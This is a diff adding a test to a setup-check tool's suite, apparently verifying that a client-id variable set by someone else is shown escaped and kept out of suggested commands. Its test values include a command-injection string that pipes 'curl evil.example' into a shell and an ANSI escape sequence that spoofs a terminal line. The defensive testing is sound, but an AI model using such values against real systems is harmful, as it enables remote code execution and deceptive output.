@@ -311,6 +311,22 @@ describe('setup --check finds', () => {
   })
 })
 
+it.each(['Iv1.abc;curl evil.example|sh #', 'x\n\x1b[2K\x1b[1Aok              environment evil: fine'])(
+  'setup --check shows a client id that somebody else has set to %j, escaped and in no command',
+  async value => {
+    const { github } = await startReady()
+    github.putVariable(HERE, 'LEDGER_KEYS_APP_CLIENT_ID', value)
+    github.deleteSecret(TOKENS, 'LEDGER_KEYS_APP_PRIVATE_KEY')
+    const { code, output, text } = await runSetup(github, CHECK)
+    expect(code).toBe(1)
+    expect(text).toContain('MISSING variable LEDGER_KEYS_APP_CLIENT_ID: is "')
+    expect(text).toContain('Run `npm run setup` with --app-client-id ID --app-private-key FILE.')
+    expect(text.split('evil')).toHaveLength(2)
+    expect(output).not.toMatch(/[^\P{C}\n]/u)
+    expect(output).not.toContain('\nok              environment evil: fine')
+  },
+)
+
 describe('setup --check tells missing from unseen', () => {
   it.each<[token: string, grant: Grant, subjects: string[]]>([
     [
